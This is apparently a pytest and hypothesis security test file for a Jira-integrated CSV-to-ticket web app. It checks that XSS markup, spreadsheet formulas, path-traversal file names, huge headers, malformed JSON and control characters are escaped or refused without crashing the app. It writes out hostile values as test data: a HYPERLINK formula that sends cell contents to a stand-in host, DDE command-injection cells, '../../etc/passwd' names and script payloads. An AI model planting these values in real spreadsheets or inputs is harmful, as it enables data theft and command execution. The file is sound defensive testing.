"""Hostile input: formulas, markup, path traversal, huge headers, deep JSON, invalid UTF-8. No 500, nothing runs,
nothing is lost."""

from __future__ import annotations

import asyncio
import io
import json
import zipfile
from dataclasses import dataclass
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.csv_safety import inert_cell
from app.generation.tables import Cell, Table
from app.llm import LLMConfig, build_writer
from app.main import routes
from app.pipeline.export_csv import spec_csvs_with_keys
from app.pipeline.generation import run_generation
from app.pipeline.intake import safe_file_name
from app.web import body_schemas
from app.web.routing import Auth, SecuredRoute
from tests.support import REPO
from tests.web.conftest import AppUnderTest
from tests.web.project import Director, director

pytestmark = [pytest.mark.unit, pytest.mark.web, pytest.mark.ops]

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
BUNDLES = (
    "ID,Name,Machine name,X,Dev,QA,Description,Type,Settings/notes\n"
    f',Evil {SCRIPT},evil_page,a,,,"{IMG} desc",Content type,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
    ",Plain,plain_page,a,,,-,Content type,-1\n"
)


def _generated(site: Director) -> int:
    session_id = site.new_session()
    upload = site.post(f"/api/sessions/{session_id}/files", files=[("files", ("bundles.csv", BUNDLES, "text/csv"))])
    assert upload.status_code == 201, upload.text
    started = site.post(f"/api/sessions/{session_id}/generate", json={"provider": "offline"})
    assert started.status_code == 202, started.text
    services = site.app.services
    asyncio.run(run_generation(services, started.json()["taskId"], writer=build_writer(LLMConfig())))
    return session_id


def _texts(node: object) -> list[str]:
    if isinstance(node, dict):
        own = [node["text"]] if node.get("type") == "text" else []
        return own + [t for child in node.get("content", []) for t in _texts(child)]
    return []


def test_markup_and_formulas_stay_inert_text_in_tickets_pages_and_panels(app_under_test: AppUnderTest) -> None:
    site = director(app_under_test)
    session_id = _generated(site)
    tickets = site.get(f"/api/sessions/{session_id}/tickets").json()["tickets"]
    evil = next(t for t in tickets if "evil" in json.dumps(t).lower())
    ticket = site.get(f"/api/sessions/{session_id}/tickets/{evil['key']}").json()
    # ADF has no markup and no formulas: the text is carried as it was written, and nothing is lost.
    services = app_under_test.services
    tenant = services.tenants.find(site.jira.client_key)
    assert tenant is not None
    record = services.tickets.get(tenant_id=tenant.id, session_id=session_id, key=evil["key"])
    assert SCRIPT in " ".join(_texts(record.description))
    stored = services.sessions.files(session_id, tenant_id=tenant.id)
    assert [f.data.decode() for f in stored] == [BUNDLES]  # the upload is kept byte for byte
    # The description's HTML rendering (the page inserts it as markup) has the text escaped.
    assert SCRIPT not in ticket["html"] and "<img src=x" not in ticket["html"] and "&lt;script&gt;" in ticket["html"]

    pages = [
        site.get(f"/api/sessions/{session_id}/panels/review"),
        site.get(f"/api/sessions/{session_id}/panels/tickets/{evil['key']}"),
        site.get(f"/api/sessions/{session_id}/panels/upload"),
        app_under_test.client.get(site.jira.signed_path("/jira/project?projectKey=DTG&projectId=10000")),
    ]
    for page in pages:
        assert page.status_code == 200, page.text
        assert SCRIPT not in page.text and "<img src=x" not in page.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[1].text


def test_formula_cells_open_as_text_in_the_csv_download() -> None:
    assert inert_cell(FORMULA) == "'" + FORMULA
    for cell in ("@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1"):
        assert inert_cell(cell).startswith("'")
    for cell in ("-1", "+3.5", "-", "", "Plain", "DTG-12"):
        assert inert_cell(cell) == cell


def test_attached_tables_and_the_header_row_of_the_download_neutralise_formulas_too() -> None:
    heading, value = Cell("=cmd|' /C calc'!A0"), Cell(FORMULA, "bundles.csv", 1, "Settings/notes")
    attached = Table("Bundles", ((heading, Cell("Name")), (value, Cell("-1", "bundles.csv", 1, "Name"))))
    assert attached.to_csv() == (
        "'=cmd|' /C calc'!A0,Name\r\n" + '"\'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",-1\r\n'
    )

    @dataclass
    class Spec:
        name: str
        data: bytes

    upload = Spec("bundles.csv", b'ID,Name,@SUM(A1)\n,Plain,"=1+1"\n')
    [download] = spec_csvs_with_keys([upload], []).values()
    assert download == b"ID,Name,'@SUM(A1)\n,Plain,'=1+1\n"


def test_only_the_csv_safety_module_writes_csv() -> None:
    writers = [
        path.relative_to(REPO).as_posix()
        for path in (REPO / "app").rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8") or "csv.DictWriter(" in path.read_text(encoding="utf-8")
    ]
    assert writers == ["app/csv_safety.py"]


def test_the_spec_download_neutralises_formulas_and_keeps_every_row(app_under_test: AppUnderTest) -> None:
    site = director(app_under_test)
    session_id = _generated(site)
    download = site.get(f"/api/sessions/{session_id}/export/spec.zip")
    assert download.status_code == 200
    with zipfile.ZipFile(io.BytesIO(download.content)) as archive:
        text = archive.read("bundles.csv").decode()
    assert "'=HYPERLINK(" in text and ",-1" in text and len(text.splitlines()) == 3


def test_a_field_longer_than_the_csv_modules_default_limit_is_read_and_downloaded(app_under_test: AppUnderTest) -> None:
    long = "x" * 200_000  # Python's csv module refuses fields over 131,072 characters unless told otherwise
    spec = f'ID,Name,Machine name,X,Description,Type\n,Long,long_page,a,"{long}",Content type\n'
    site = director(app_under_test)
    session_id = site.new_session()
    stored = site.post(f"/api/sessions/{session_id}/files", files=[("files", ("bundles.csv", spec, "text/csv"))])
    assert stored.status_code == 201, stored.text

    report = site.get(f"/api/sessions/{session_id}/intake").json()
    download = site.get(f"/api/sessions/{session_id}/export/spec.zip")

    assert "malformed_csv" not in {f["code"] for f in report["findings"]}
    assert download.status_code == 200, download.text
    with zipfile.ZipFile(io.BytesIO(download.content)) as archive:
        assert long in archive.read("bundles.csv").decode()


NAMES = ["../../etc/passwd.csv", "..\\..\\windows\\bundles.csv", "/abs/evil.csv", "a\x00b.csv"]


@pytest.mark.parametrize("name", NAMES)
def test_uploaded_file_names_cannot_climb_out(app_under_test: AppUnderTest, name: str) -> None:
    site = director(app_under_test)
    session_id = site.new_session()
    response = site.post(f"/api/sessions/{session_id}/files", files=[("files", (name, BUNDLES, "text/csv"))])
    assert response.status_code in (201, 400), response.text
    stored = app_under_test.services.sessions.files(
        session_id, tenant_id=app_under_test.services.tenants.find(site.jira.client_key).id
    )  # type: ignore[union-attr]
    assert all("/" not in f.name and "\\" not in f.name and ".." not in f.name and "\x00" not in f.name for f in stored)


@pytest.mark.parametrize("path", ["/api/me", "/jira/project?projectKey=DTG", "/installed"])
def test_a_huge_authorization_header_is_refused_not_crashed(app_under_test: AppUnderTest, path: str) -> None:
    huge = "JWT " + "eyJ" + "A" * 100_000
    method = "POST" if path == "/installed" else "GET"
    response = app_under_test.client.request(method, path, headers={"Authorization": huge}, content=b"{}")
    assert 400 <= response.status_code < 500


def _json_routes() -> list[tuple[str, str, Auth]]:
    """Every route that takes a body, with sample path parameters."""
    found = []
    for route in routes():
        if isinstance(route, SecuredRoute):
            for method in sorted((route.methods or set()) & {"POST", "PUT", "PATCH"}):
                path = route.path.replace("{session_id:int}", "{session}").replace("{task_id:int}", "1")
                found.append(
                    (method, path.replace("{key}", "k").replace("{name}", "n").replace("{blocker}", "b"), route.auth)
                )
    return found


BAD_BODIES = [b"[" * 100_000, b'{"a":' * 50_000, b"\xff\xfe\xfa not utf-8 {", b'{"x": "\xed\xa0\x80"}']


@pytest.mark.parametrize("body", BAD_BODIES)
def test_deep_or_broken_json_bodies_crash_no_endpoint(app_under_test: AppUnderTest, body: bytes) -> None:
    site = director(app_under_test)
    session_id = site.new_session()
    failures = []
    for method, path, auth in _json_routes():
        status = _send(site, method, path.replace("{session}", str(session_id)), auth, body)
        if _crashed(path, status):
            failures.append((method, path, status))
    assert failures == []


def _send(site: Director, method: str, url: str, auth: Auth, body: bytes) -> int:
    headers = {"Content-Type": "application/json"}
    if auth is Auth.CONTEXT:
        headers.update(site.headers())
    elif auth is Auth.SIGNED_INSTALL:
        headers["Authorization"] = f"JWT {site.jira.install_token(url)}"
    elif auth is Auth.JIRA_REQUEST:
        url = site.jira.signed_path(url, method=method)
    return site.app.client.request(method, url, content=body, headers=headers).status_code


def _crashed(path: str, status: int) -> bool:
    # The admin endpoints first ask Jira whether the caller is an admin; this fake Jira cannot answer (503).
    return status >= 500 and not (path.startswith("/api/admin") and status == 503)


# Every field name the JSON endpoints read, so the fuzzed bodies hit the real fields with the wrong things.
FIELDS = [
    *("version", "title", "markdown", "labels", "assignee", "onHold", "excluded", "blockedBy", "reviewed", "keys"),
    *("action", "add", "remove", "kind", "provider", "model", "baseUrl", "apiKey", "removeApiKey", "statusMapping"),
    *("accountId", "name", "status", "clientKey", "sharedSecret", "baseUrl", "epicsEnabled", "issueType"),
]
# Mostly visible text, so that a body is not always refused for its control characters before its types count.
HOSTILE_TEXT = st.one_of(
    st.text(st.characters(exclude_categories=("Cc", "Cs")), max_size=20),
    st.sampled_from(["\x00", "a\x00b", "\u202e", "x" * 200_000, "=cmd|' /C calc'!A0", "../../etc/passwd"]),
)
JSON_VALUES = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        HOSTILE_TEXT,
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=5), inner, max_size=4)
    ),
    max_leaves=12,
)
# Each real field present half the time, often with a plausible value (a small number, a flag, a text, a list of
# texts), otherwise with any JSON value: right and wrong types meet in one body.
FIELD_VALUES = st.one_of(
    st.integers(min_value=0, max_value=3), st.booleans(), HOSTILE_TEXT, st.lists(HOSTILE_TEXT, max_size=3), JSON_VALUES
)
BODIES = st.one_of(st.fixed_dictionaries({}, optional=dict.fromkeys(FIELDS, FIELD_VALUES)), JSON_VALUES)


def from_schema(schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    """Values an endpoint's schema (app/web/body_schemas.py) describes, at and just past its limits, mixed with any
    JSON value: a body hits that endpoint's real fields with right and wrong types, sizes and enum values."""
    return st.one_of(_fitting(schema), _fitting(schema), JSON_VALUES)


def _fitting(schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    if "enum" in schema:
        return st.sampled_from([*schema["enum"], "not-in-the-enum"])
    kinds = schema.get("type", "string")
    options = [_of_type(kind, schema) for kind in (kinds if isinstance(kinds, list) else [kinds])]
    return st.one_of(options)


def _of_type(kind: str, schema: dict[str, Any]) -> st.SearchStrategy[Any]:
    if kind == "object":
        properties = {name: from_schema(sub) for name, sub in schema.get("properties", {}).items()}
        extra = schema.get("additionalProperties")
        if isinstance(extra, dict):  # a map (fieldDefaults): names that look right and wrong, up to and past the cap
            names = st.from_regex(r"customfield_[0-9]{1,6}", fullmatch=True) | st.sampled_from(["summary", "a b"])
            cap = int(schema.get("maxProperties", 5))
            return st.dictionaries(names, from_schema(extra), max_size=3) | st.just(
                {f"customfield_{n}": "x" for n in range(cap + 1)}
            )
        return st.fixed_dictionaries({}, optional=properties)
    if kind == "array":
        items = from_schema(schema.get("items", {}))
        cap = int(schema.get("maxItems", 4))
        return st.lists(items, max_size=3) | st.lists(st.just("x"), min_size=cap + 1, max_size=cap + 1)
    if kind == "string":
        cap = int(schema.get("maxLength", 20))
        return HOSTILE_TEXT | st.sampled_from(["x" * cap, "x" * (cap + 1), "offline", "openai", "label", "Task"])
    if kind == "integer":
        low, high = int(schema.get("minimum", -(2**40))), int(schema.get("maximum", 2**40))
        return st.integers(min_value=low, max_value=min(high, low + 5)) | st.sampled_from([low - 1, high + 1])
    if kind == "boolean":
        return st.booleans()
    return st.none()


def _fuzzed_routes(session_id: int, key: str) -> dict[tuple[str, str], st.SearchStrategy[Any]]:
    """Every API route that takes a body, with its own strategy; real ids, so a body reaches the handler's logic."""
    session = f"/api/sessions/{session_id}"
    ticket = f"{session}/tickets/{key}"
    generic = BODIES
    return {
        ("POST", "/api/sessions"): generic,
        ("POST", f"{session}/files"): generic,
        ("PATCH", session): from_schema(body_schemas.RENAME_SESSION),
        ("PUT", f"{session}/files/bundles.csv/kind"): from_schema(body_schemas.SET_FILE_KIND),
        ("POST", "/api/tasks/1/cancel"): generic,
        ("POST", f"{session}/generate"): from_schema(body_schemas.CHOOSE_PROVIDER),
        ("PATCH", ticket): from_schema(body_schemas.EDIT_TICKET),
        ("PUT", f"{ticket}/reviewed"): from_schema(body_schemas.MARK_REVIEWED),
        ("POST", f"{ticket}/links"): from_schema(body_schemas.ADD_LINK),
        ("POST", f"{session}/bulk"): from_schema(body_schemas.BULK),
        ("POST", f"{session}/export"): generic,
        ("POST", f"{session}/revise"): generic,
        ("POST", f"{session}/revision/choices"): from_schema(body_schemas.REVISION_CHOICE),
        ("PUT", "/api/admin/settings"): from_schema(body_schemas.SETTINGS),
        ("POST", "/api/admin/settings/check"): from_schema(body_schemas.CHECK_CONNECTION),
        ("PUT", "/api/admin/export-settings"): from_schema(body_schemas.EXPORT_SETTINGS),
    }


class _EveryoneIsAdmin:
    async def is_admin(self, installation: object, account_id: str, *, auth: object = None) -> bool:
        return True


@pytest.mark.slow
def test_fuzzed_json_bodies_crash_no_endpoint(app_under_test: AppUnderTest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Wrong types, NULs and huge values, drawn per endpoint from its own schema, into every API endpoint that takes
    a body: a 4xx, never a 500 (the admin endpoints too: here Jira says the caller is an admin)."""
    site = director(app_under_test)
    session_id = _generated(site)
    key = site.get(f"/api/sessions/{session_id}/tickets").json()["tickets"][0]["key"]
    monkeypatch.setattr(app_under_test.services, "admin_check", _EveryoneIsAdmin())
    routes = _fuzzed_routes(session_id, key)
    # A new endpoint that takes a body needs its own entry above.
    listed = {(m, p.replace("{session}", str(session_id))) for m, p, _ in _json_routes() if p.startswith("/api/")}
    assert {(m, p.replace("/bundles.csv/", "/n/").replace(f"/{key}", "/k")) for m, p in routes} == listed

    @settings(max_examples=60, deadline=None)
    @given(data=st.data())
    def fuzz(data: st.DataObject) -> None:
        for (method, path), strategy in routes.items():
            body = data.draw(strategy, label=f"{method} {path}")
            status = _send(site, method, path, Auth.CONTEXT, json.dumps(body).encode())
            assert status < 500 and status != 401, (method, path, status, body)

    fuzz()


def test_invalid_utf8_in_query_strings_is_no_500(app_under_test: AppUnderTest) -> None:
    site = director(app_under_test)
    for path in ("/api/sessions?x=%FF%FE", "/api/me?%C3%28=%80", "/healthz?q=%ED%A0%80"):
        assert site.get(path).status_code < 500
    page = app_under_test.client.get(site.jira.signed_path("/jira/project?projectKey=%FF%FE&projectId=1"))
    assert page.status_code < 500


def test_nul_and_control_characters_in_json_are_a_400_naming_the_field(app_under_test: AppUnderTest) -> None:
    site = director(app_under_test)
    session_id = _generated(site)
    [first, *_] = site.get(f"/api/sessions/{session_id}/tickets").json()["tickets"]
    url = f"/api/sessions/{session_id}/tickets/{first['key']}"
    before = site.get(url).json()

    for body, field in [
        ({"version": before["version"], "title": "Evil\x00title"}, "title"),
        ({"version": before["version"], "assignee": {"accountId": "5b10\x00ac8d", "name": "x"}}, "assignee.accountId"),
        ({"version": before["version"], "labels": ["ok", "bad\x1b[31m"]}, "labels[1]"),
    ]:
        answer = site.patch(url, json=body)
        assert answer.status_code == 400, answer.text
        assert answer.json()["error"]["message"].startswith(f"{field} contains an invisible control character")
    after = site.get(url).json()
    assert (after["title"], after["version"]) == (before["title"], before["version"])  # nothing changed


@pytest.mark.parametrize(
    "path", ["/static/app.js%00.png", "/api/sessions/1/files/a%00b.csv", "/api/me?x=%00", "/jira/project?k=%1b"]
)
def test_control_characters_in_the_address_are_a_400_not_a_crash(app_under_test: AppUnderTest, path: str) -> None:
    response = app_under_test.client.get(path, headers=director(app_under_test).headers())
    assert response.status_code == 400
    assert "control character" in response.json()["error"]["message"] and "Traceback" not in response.text


def test_file_names_lose_bidirectional_and_control_characters(app_under_test: AppUnderTest) -> None:
    site = director(app_under_test)
    session_id = site.new_session()
    name = "Bundles\u202evsc.exe.csv"  # shown as "Bundlesexe.csv" with the rest reversed
    response = site.post(f"/api/sessions/{session_id}/files", files=[("files", (name, BUNDLES, "text/csv"))])
    assert response.status_code == 201 and response.json()["stored"] == ["Bundlesvsc.exe.csv"]
    panel = site.get(f"/api/sessions/{session_id}/panels/upload")
    assert "\u202e" not in panel.text and "Bundlesvsc.exe.csv" in panel.text
    assert safe_file_name("Roles\x07\u2066\u200f.csv") == "Roles.csv"


def test_wrong_json_types_are_a_400_naming_the_field(app_under_test: AppUnderTest) -> None:
    site = director(app_under_test)
    session_id = _generated(site)
    [first, *_] = site.get(f"/api/sessions/{session_id}/tickets").json()["tickets"]
    ticket = f"/api/sessions/{session_id}/tickets/{first['key']}"
    version = site.get(ticket).json()["version"]
    cases = [
        ("PATCH", ticket, {"version": version, "assignee": "5b10ac8d"}, "assignee: must be an object or null"),
        ("PATCH", ticket, {"version": version, "assignee": 7}, "assignee: must be an object or null"),
        ("PATCH", ticket, {"version": version, "assignee": ["x"]}, "assignee: must be an object or null"),
        ("PATCH", ticket, {"version": "1"}, "version: must be a whole number"),
        ("PATCH", ticket, {"version": version, "markdown": "x" * 600_000}, "markdown: is longer than 100,000"),
        (
            "POST",
            f"/api/sessions/{session_id}/bulk",
            {"keys": [first["key"]], "action": "label", "add": [1, 2]},
            "add[1]: must be text",
        ),
        ("PUT", f"/api/sessions/{session_id}/files/bundles.csv/kind", {"kind": {}}, "kind: must be text or null"),
        ("PUT", f"{ticket}/reviewed", {"reviewed": "yes"}, "reviewed: must be true or false"),
    ]
    for method, path, body, message in cases:
        answer = site.call(method, path, json=body)
        assert answer.status_code == 400, (path, body, answer.text)
        assert answer.json()["error"]["message"].startswith(message), answer.json()
    assert site.get(ticket).json()["version"] == version  # nothing changed
